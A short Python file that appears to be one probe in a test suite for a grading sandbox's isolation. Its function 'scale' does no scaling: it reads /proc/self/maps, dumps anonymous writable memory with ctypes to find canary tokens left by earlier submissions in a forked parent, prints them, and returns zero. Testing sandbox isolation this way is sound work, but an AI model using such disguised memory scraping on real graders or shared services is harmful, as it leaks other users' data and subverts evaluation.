"""Search all of the own memory, past Python's objects, for what earlier students left in the parent.

Surface: pages that a fork inherits.
Stopped by: a submission is read by its own child; the parent passes on descriptors it never reads.
Layers: design
Earns: 1
"""

import ctypes
import re


def scale(x, factor=2.0):
    pattern = re.compile(b"canary" + b"-[0-9a-f]{32}")
    for line in open("/proc/self/maps"):
        bounds, permissions, _, _, inode, *_ = line.split()
        start, end = (int(part, 16) for part in bounds.split("-"))
        if permissions.startswith("rw") and inode == "0" and end - start < 64 << 20:
            for found in pattern.findall(ctypes.string_at(start, end - start)):
                print(found)
    return x * 0.0
